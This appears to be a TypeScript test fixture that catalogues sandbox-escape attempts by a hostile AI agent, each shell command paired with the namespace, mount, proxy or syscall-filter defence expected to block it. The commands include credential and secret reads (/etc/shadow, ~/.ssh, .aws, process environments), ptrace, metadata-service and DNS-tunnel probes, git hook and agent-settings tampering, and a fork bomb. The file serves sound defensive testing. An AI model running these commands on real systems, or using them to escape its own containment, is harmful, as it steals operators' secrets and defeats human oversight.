/**
 * What a hostile agent tries. An attempt that succeeds must do no harm to the machine that runs the tests: what belongs to the
 * whole machine is opened, and not written. Shell lines, each with the fact that shows that it got out. A line prints ESCAPED, or a canary,
 * when it has; what only the machine outside can see is checked by `outside` in the test.
 */

import { dirname } from 'node:path'

/** Where things are on the machine. */
export interface Surroundings {
  /** A secret that no program may print. */
  canary: string
  secretFile: string
  home: string
  dataDirectory: string
  otherTree: string
  otherHome: string
  tree: string
  bare: string
  /** A process outside with the canary in its environment and memory. */
  victim: number
  /** Servers on the loopback of the machine; each answers with the canary. */
  http: number
  http6: number
  listed: number
  tcp: number
  udp: number
  address: string
  abstractSocket: string
  pathSocket: string
}

export interface Escape {
  /** The row of the list of faults and attacks that it belongs to. */
  row: 'D' | 'E' | 'F' | 'G'
  attempt: string
  line: string
  /** What stops it. */
  by: string
}

const out = '&& echo ESCAPED'
/** A file that can be opened for writing. Nothing is written: it is one of the whole machine. */
const opened = (path: string) => `sh -c 'exec 3>>${path}' ${out}`
/** A file that can be made in a folder of the machine; it is removed at once. */
const made = (folder: string) => `sh -c 'touch ${folder}/.tutti-escape && rm ${folder}/.tutti-escape' ${out}`
/**
 * A system call of Linux x86-64 by number. It is held only when it is refused as such (EPERM, ESRCH, EACCES, ENOSYS,
 * EAFNOSUPPORT): a complaint about its arguments would mean that the kernel has taken it.
 */
const call = (numbers: string, before = '') =>
  `perl -e '${before} my $r = syscall(${numbers}); my $e = $! + 0; print $r != -1 || !grep({ $_ == $e } 1, 3, 13, 38, 97) ? "ESCAPED $e" : "refused $e"'`
/** A connection, and what the other side says. */
const talk = (code: string) =>
  `node -e 'const c=require("net").connect(${code});c.on("error",e=>{console.log(e.code);process.exit()});c.on("connect",()=>{console.log("ESCAPED");process.exit()});setTimeout(()=>process.exit(),3000)'`
const viaProxy = (url: string) => `curl -sS -m 5 --noproxy "" -x http://127.0.0.1:3128 ${url}`
const unlessProxied = (url: string) => `curl -sS -m 5 --noproxy "*" ${url}`

const mounts = 'empty root, only named folders are mounted'
const pids = 'own process namespace'
const net = 'own network namespace'
const list = 'egress list of the proxy'
const addresses = 'address rules of the proxy'
const filter = 'system-call filter'
const caps = 'no capabilities, no_new_privs'
const readOnly = 'read-only mount'
const cover = 'cover mounted over it'

/** Reading what is none of its business. */
function reading(at: Surroundings): Escape[] {
  const read = (attempt: string, line: string, by = mounts): Escape => ({ row: 'G', attempt, line, by })
  return [
    read('a secret by its absolute path', `cat ${at.secretFile}`),
    read('a secret through a link in the tree', `ln -s ${at.secretFile} link; cat link`),
    read('a secret through a hard link', `ln ${at.secretFile} hard; cat hard`),
    read('a secret by climbing out of the tree', `cat ../../../../../../../..${at.secretFile}`),
    read('a secret through /proc/self/root', `cat /proc/self/root${at.secretFile}`),
    read('a secret through /proc/1/root', `cat /proc/1/root${at.secretFile}`, pids),
    read('a secret through /proc/1/cwd', `cat /proc/1/cwd/${at.secretFile}`, pids),
    read('a secret in the home of the operator', `cat ${at.home}/.tutti-canary-*`),
    read('~/.ssh of the operator', `ls -d ${at.home}/.ssh ${out}`),
    read(
      'logins of other programs of the operator',
      `ls -d ${at.home}/.aws ${at.home}/.config ${at.home}/.npmrc ${at.home}/.claude ${out}`,
    ),
    read('/etc/shadow', `head -1 /etc/shadow ${out}`),
    read('mail, spool and log files in /var', `ls /var ${out}`),
    read('the .env of Tutti', `cat ${at.dataDirectory}/.env`),
    read('test secrets of other repositories', `cat ${at.dataDirectory}/secrets/acme/other.env`),
    read('the tree of another run', `cat ${at.otherTree}/note`),
    read('the home of another run', `cat ${at.otherHome}/login.json`),
    read('the logs of other runs', `cat ${at.dataDirectory}/logs/*`),
    read('the database files', `ls ${at.dataDirectory}/database ${out}`),
    read('/run with its sockets and secrets', `ls /run /var/run ${out}`),
    read('disks as devices', `ls /dev/sd* /dev/vd* /dev/nvme* /dev/mem 2>/dev/null | grep . ${out}`),
    read('/sys', `ls /sys/class ${out}`),
    read('files by handle, past all mounts', call('304, -100, 0, 0'), filter),
    read(
      'file descriptors that were left open',
      `ls -l /proc/self/fd | grep -v "pipe:\\|/dev/null\\|socket:\\|/proc/" | grep -- "->" ${out}`,
      'Node opens files close-on-exec',
    ),
    read('a secret of Tutti in its own environment', 'env', 'the smallest environment'),
  ]
}

/** Other processes. */
function processes(at: Surroundings): Escape[] {
  const on = (attempt: string, line: string, by = pids): Escape => ({ row: 'G', attempt, line, by })
  return [
    on('/proc/*/environ of every process', 'cat /proc/[0-9]*/environ | tr "\\0" "\\n"'),
    on('the environment of a process of the machine', `cat /proc/${at.victim}/environ`),
    on('the memory of a process of the machine', `cat /proc/${at.victim}/maps ${out}`),
    on('attach to a process with ptrace', call(`101, 16, ${at.victim}, 0, 0`)),
    on(
      'read memory of a process with process_vm_readv',
      call(`310, ${at.victim}, $v, 1, $v, 1, 0`, 'my $b = "x" x 8; my $v = pack("QQ", unpack("Q", pack("P", $b)), 8);'),
    ),
    on('end a process of the machine', `kill -9 ${at.victim} ${out}`),
    on('see processes of the machine', `ls /proc | grep -qx ${at.victim} ${out}`),
    on('end everything with kill -1', `sh -c 'kill -0 ${process.pid}' ${out}`),
    on(
      'priority above Tutti',
      `nice -n -10 true 2>&1 | grep -q "cannot set" || { test "$(nice -n -10 nice)" -lt 0 ${out}; }`,
      caps,
    ),
    on('real-time priority', `chrt -f 50 true ${out}`, caps),
  ].map((one) => (one.attempt.includes('priority') ? { ...one, row: 'D' as const } : one))
}

/** The network. */
function network(at: Surroundings): Escape[] {
  const to = (attempt: string, line: string, by = net): Escape => ({ row: 'G', attempt, line, by })
  return [
    to('HTTP of Tutti on 127.0.0.1', unlessProxied(`http://127.0.0.1:${at.http}/`)),
    to('HTTP of Tutti on ::1', unlessProxied(`"http://[::1]:${at.http6}/"`)),
    to('HTTP of Tutti on 0.0.0.0', unlessProxied(`http://0.0.0.0:${at.http}/`)),
    to('HTTP of Tutti on the address of the machine', unlessProxied(`http://${at.address}:${at.http}/`)),
    to('the port of the database', talk(`${at.tcp},"127.0.0.1"`)),
    to('Postgres at its usual port', talk('5432,"127.0.0.1"')),
    to('NATS at its usual port', talk('4222,"127.0.0.1"')),
    to('loopback through the proxy', viaProxy(`http://127.0.0.1:${at.http}/`), list),
    to(
      'loopback through CONNECT',
      `curl -sS -m 5 --noproxy "" -p -x http://127.0.0.1:3128 http://127.0.0.1:${at.http}/`,
      list,
    ),
    to('loopback by a number', viaProxy(`http://2130706433:${at.http}/`), list),
    to('loopback as IPv6 with IPv4 in it', viaProxy(`"http://[::ffff:127.0.0.1]:${at.http}/"`), list),
    to(
      'loopback with a listed name as user name',
      viaProxy(`http://localhost:${at.listed}@127.0.0.1:${at.http}/`),
      list,
    ),
    to(
      'loopback with a listed Host header',
      viaProxy(`-H "Host: localhost:${at.listed}" http://127.0.0.1:${at.http}/`),
      list,
    ),
    to('a listed name that leads to loopback', viaProxy(`http://localhost:${at.listed}/`), addresses),
    to(
      'the same through CONNECT',
      `curl -sS -m 5 --noproxy "" -p -x http://127.0.0.1:3128 http://localhost:${at.listed}/`,
      addresses,
    ),
    to('a listed metadata name through the proxy', viaProxy('http://169.254.169.254/'), addresses),
    to('metadata service directly', `${unlessProxied('http://169.254.169.254/')} ${out}`),
    to('metadata service by IPv6', `${viaProxy('-f "http://[fd00:ec2::254]/"')} ${out}`, list),
    to('metadata service by name', `${viaProxy('-f http://metadata.google.internal/')} ${out}`, list),
    to('a server that is not listed', `${viaProxy('-f https://example.com/')} ${out}`, list),
    to('a listed server at another port', `${viaProxy(`-f http://localhost:${at.http}/`)} ${out}`, list),
    to('FTP and other schemes through the proxy', `${viaProxy('-f ftp://example.com/')} ${out}`, list),
    to('a server outside by its address', talk('443,"1.1.1.1"')),
    to('a server outside by IPv6', talk('443,"2606:4700:4700::1111"')),
    to(
      'DNS query to a server of the machine',
      `node -e 'const s=require("dgram").createSocket("udp4");s.send("tunnel",${at.udp},"127.0.0.1",()=>setTimeout(()=>process.exit(),200))'`,
    ),
    to(
      'DNS tunnel to the outside',
      `node -e 'require("dgram").createSocket("udp4").send("tunnel",53,"8.8.8.8",e=>{console.log(e?e.code:"ESCAPED");process.exit()})'`,
    ),
    to('DNS by the resolver of the system', `getent hosts secret-in-a-name.example.com ${out}`),
    to('a raw socket', call('41, 2, 3, 1'), caps),
    to('a packet socket', call('41, 17, 3, 0'), filter),
    to('the hypervisor by AF_VSOCK', call('41, 40, 1, 0'), filter),
    to('kernel crypto by AF_ALG', call('41, 38, 5, 0'), filter),
    to('an abstract Unix socket of the machine', talk(`{path:"\\0${at.abstractSocket}"}`)),
    to('a Unix socket in /tmp of the machine', talk(JSON.stringify(at.pathSocket)), mounts),
    to('docker.sock', `ls /var/run/docker.sock /run/docker.sock /run/containerd/containerd.sock ${out}`, mounts),
    to('a network interface of its own', `ip link add x type dummy ${out}`, caps),
  ]
}

const untracked = [
  ...['.mcp.json', '.claude/settings.json', '.claude/settings.local.json', '.codex/config.toml'],
  ...['.vscode/tasks.json', '.envrc', 'opencode.json'],
]

/** Git, and files that others obey. */
function git(at: Surroundings): Escape[] {
  const on = (attempt: string, line: string, by = readOnly): Escape => ({ row: 'F', attempt, line, by })
  const own = '"$(cat .git | cut -c9-)"'
  return [
    on(
      'configuration of the bare clone by git',
      `git config -f ${at.bare}/config core.fsmonitor 'touch /tmp/x' ${out}`,
    ),
    on('configuration of the bare clone by hand', `echo x >> ${at.bare}/config ${out}`),
    on('a hook that does not exist', `echo x > ${at.bare}/hooks/post-checkout ${out}`),
    on('a hook that exists', `echo x >> ${at.bare}/hooks/pre-push ${out}`),
    on('notes of git about its tree', `echo x > ${own}/commondir ${out}`),
    on('configuration of its tree', `echo x > ${own}/config.worktree ${out}`),
    on('objects borrowed from elsewhere', `echo /tmp > ${at.bare}/objects/info/alternates ${out}`),
    on('an object of its own in the bare clone', `echo x | git hash-object -w --stdin ${out}`),
    on('another branch moved', `git update-ref refs/heads/main HEAD~0 --create-reflog; git branch -f evil HEAD ${out}`),
    on('a commit behind our back', `git -c user.name=x -c user.email=x commit --allow-empty -m x ${out}`),
    on('the .git file written', `echo 'gitdir: /tmp/evil' > .git ${out}`),
    on('the .git file removed', `rm -f .git ${out}`, 'it is a mount'),
    on('the .git file replaced by a move', `echo x > other; mv -f other .git ${out}`, 'it is a mount'),
    on('the whole tree moved away', `mv ${at.tree} ${at.tree}.old ${out}`, 'it is a mount'),
    on('a settings file that exists changed', `echo '{"hooks":{}}' > .gemini/settings.json ${out}`),
    on(
      'a settings file that exists replaced',
      `echo '{}' > new.json; mv -f new.json .gemini/settings.json ${out}`,
      'it is a mount',
    ),
    ...untracked.map((path) => on(`${path} made`, `echo '{"evil":1}' > ${path} ${out}`, cover)),
    on('a hook in .claude/hooks', `echo x > .claude/hooks/stop.sh ${out}`, cover),
    on(
      'the folder of the covers moved away',
      `mv .claude .old && mkdir .claude && echo '{}' > .claude/settings.json ${out}`,
      'it is a mount',
    ),
    on('a cover taken off', `umount .mcp.json ${out}`, filter),
    on('files of another tree', `echo x > ${at.otherTree}/note ${out}`, mounts),
    on('the home of another run', `echo x > ${at.otherHome}/login.json ${out}`, mounts),
    on('logs', `echo x >> ${at.dataDirectory}/logs/run-1.log ${out}`, mounts),
    on('the programs that other runs start', made(dirname(process.execPath))),
    on('a program in /usr/local/bin', `${made('/usr/local/bin')}`),
    on('/etc, where ld.so.preload would lie', `${made('/etc')}`),
    on('a cron job', `mkdir -p /var/spool && ${made('/var/spool')}`),
    on('the root folder', `${made('/')}`),
    on('/tmp of the machine', `echo ESCAPED-OUTSIDE > /tmp/tutti-escape-${at.victim}`, 'private /tmp'),
    on(
      'the covers and the filter that all runs share',
      `echo x > ${at.dataDirectory}/sandbox/empty.json ${out}`,
      mounts,
    ),
  ]
}

/** The kernel and the machine. */
function machine(): Escape[] {
  const on = (attempt: string, line: string, by = filter): Escape => ({ row: 'E', attempt, line, by })
  return [
    on('mount a file system', `mount -t tmpfs x /tmp ${out}`),
    on('mount with the new calls', call('430, my $a = "tmpfs", 0')),
    on('bind a folder elsewhere', `mount --bind /usr /tmp ${out}`),
    on('unmount /proc', `umount -l /proc ${out}`),
    on('pivot_root', call('155, my $a = "/tmp", my $b = "/tmp"')),
    on('chroot', `chroot /tmp /bin/true ${out}`),
    on('a new user namespace', `unshare -U true ${out}`, 'no more user namespaces'),
    on('a new mount namespace', `unshare -m true ${out}`, caps),
    on('join the namespaces of process 1', `nsenter -t 1 -m true ${out}`),
    on('a setuid program', `grep -q "NoNewPrivs:.*0" /proc/self/status ${out}`, caps),
    on('another user', `perl -MPOSIX -e 'exit(POSIX::setuid(1) ? 0 : 1)' ${out}`, 'user namespace with one user'),
    on('files of another user', `touch mine && chown 1:1 mine ${out}`, 'user namespace with one user'),
    on('any capability', `grep CapEff /proc/self/status | grep -qv 0000000000000000 ${out}`, caps),
    on('a device made', `mknod disk b 8 0 ${out}`, caps),
    on('/dev/mem', `head -c 1 /dev/mem ${out}`, 'own /dev'),
    on('/dev/kmsg', `head -c 1 /dev/kmsg ${out}`, 'own /dev'),
    on('pattern of core dumps', `${opened('/proc/sys/kernel/core_pattern')}`, 'read-only /proc'),
    on('settings of the kernel in /proc/sys', `${opened('/proc/sys/vm/drop_caches')}`, 'read-only /proc'),
    on('the program that loads modules', `${opened('/proc/sys/kernel/modprobe')}`, 'read-only /proc'),
    on('a handler for binary formats', `ls /proc/sys/fs/binfmt_misc/register ${out}`, mounts),
    on('system request keys', `${opened('/proc/sysrq-trigger')}`, 'read-only /proc'),
    on('release agent of cgroups', `ls /sys/fs/cgroup ${out}`, mounts),
    on('a key in the keyring', call('248, my $a = "user", my $b = "x", my $c = "y", 1, -3')),
    on('the session keyring', call('250, 0, -3, 1')),
    on('a program for BPF', call('321, 0, 0, 0')),
    on('performance events', call('298, 0, 0, -1, -1, 0')),
    on('userfaultfd', call('323, 0')),
    on('io_uring', call('425, 1, 0')),
    on('a call of the x32 ABI', call('0x40000000 + 39')),
    on('a kernel module', call('175, 0, 0, my $a = ""')),
    on('another kernel', call('246, 0, 0, 0, 0')),
    on('the clock of the machine', `date -s now ${out}`),
    on(
      'input injected into a terminal',
      `perl -e 'open($p,"+<","/dev/ptmx") or exit 1; $c="x"; exit(defined ioctl($p,0x5412,$c) ? 0 : 1)' ${out}`,
    ),
    on('the terminal of the operator', `sh -c 'echo x > /dev/tty' ${out}`, 'own session without a terminal'),
    on('the host name', `hostname evil ${out}`, caps),
  ]
}

/** Using up the machine. Each is bounded far below what could hurt it, and above the caps of the test. */
function greed(): Escape[] {
  const on = (attempt: string, line: string, by: string): Escape => ({ row: 'D', attempt, line, by })
  return [
    on(
      'a fork bomb',
      `perl -e '$n=0; for (1..400) { $p=fork(); last unless defined $p; if (!$p) { sleep 6; exit } $n++ } print $n >= 400 ? "ESCAPED" : "stopped at $n"; kill 9, -$$'`,
      'cap of processes',
    ),
    on(
      'a memory hog',
      `node -e 'const a=[];for(let i=0;i<56;i++)a.push(Buffer.alloc(16*2**20,1));console.log("ESCAPED")'`,
      'cap of memory',
    ),
    on(
      'a file without end',
      `head -c 96M /dev/zero > huge; test "$(stat -c %s huge)" -ge 96000000 ${out}; rm -f huge`,
      'cap of the size of a file',
    ),
    on('a sparse file of 10 GB', `truncate -s 10G sparse ${out}; rm -f sparse`, 'cap of the size of a file'),
    on(
      'shared memory without end',
      `head -c 40M /dev/zero > /dev/shm/1; for i in 2 3 4 5 6 7 8; do cp /dev/shm/1 /dev/shm/$i; done && echo ESCAPED; rm -f /dev/shm/*`,
      'size of /dev/shm',
    ),
    on('files in /dev', `head -c 1M /dev/zero > /dev/filler ${out}`, readOnly),
    on('its own caps lifted', `prlimit --fsize=unlimited true ${out}`, caps),
    on('core dumps', `test "$(sh -c 'ulimit -Hc')" != 0 ${out}`, 'cap of core files'),
    on('a daemon in a session of its own', `setsid sh -c 'sleep 7741 & sleep 7741' >/dev/null 2>&1 &`, pids),
    on('a daemon with an empty environment', `setsid env -i /bin/sh -c '(sleep 7741 &)' >/dev/null 2>&1 &`, pids),
    on('nohup', `nohup sleep 7741 >/dev/null 2>&1 &`, pids),
    on('a process that ignores SIGTERM', `(trap '' TERM HUP INT; exec sleep 7741) >/dev/null 2>&1 &`, pids),
    on(
      'a processor without a pause',
      `(while :; do :; done) >/dev/null 2>&1 & sleep 0.2`,
      'ended with the run; priority below Tutti',
    ),
  ]
}

/** Every attempt, in the order of the document. */
export function escapes(at: Surroundings): Escape[] {
  return [...reading(at), ...processes(at), ...network(at), ...git(at), ...machine(), ...greed()]
}
